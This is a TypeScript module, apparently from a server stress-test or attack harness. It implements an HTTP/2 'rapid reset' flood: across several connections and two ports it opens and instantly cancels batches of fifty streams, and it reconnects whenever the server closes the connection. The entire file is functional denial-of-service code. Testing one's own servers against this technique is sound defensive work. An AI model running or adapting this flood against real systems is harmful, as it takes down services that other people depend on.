import { paths } from "../../raw/paths.js";
import { END_STREAM, envelope, frame, frameTypes, RawHttp2, requestHeaders } from "../../raw/raw-http2.js";
import { bothPorts, clockOf, pause, type Target } from "../../target.js";

const CONNECTIONS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const AT_ONCE = 50;

/** Opens streams and cancels them at once, as fast as the server takes it; comes back whenever it is thrown out. */
export async function rapidResets(target: Target): Promise<void> {
  const clock = clockOf(target);
  const attack = async (port: number, path: string) => {
    while (clock()) {
      const http2 = new RawHttp2(port);
      await http2.opened;
      while (clock() && !http2.isClosed) {
        const parts: Buffer[] = [];
        for (let n = 0; n < AT_ONCE; n++) {
          const { id, bytes } = http2.requestBytes(requestHeaders(path));
          const body = frame(frameTypes.data, END_STREAM, id, envelope(Buffer.from([0x0a, 1, 0x78])));
          parts.push(bytes, body, frame(frameTypes.reset, 0, id, CANCEL));
        }
        await http2.flush(Buffer.concat(parts));
      }
      http2.end();
      await pause(1);
    }
  };
  await Promise.all(
    bothPorts.flatMap((port) =>
      Array.from({ length: CONNECTIONS / 2 }, (_, i) =>
        attack(target[port], i % 2 === 0 ? paths.watch : paths.list),
      ),
    ),
  );
}
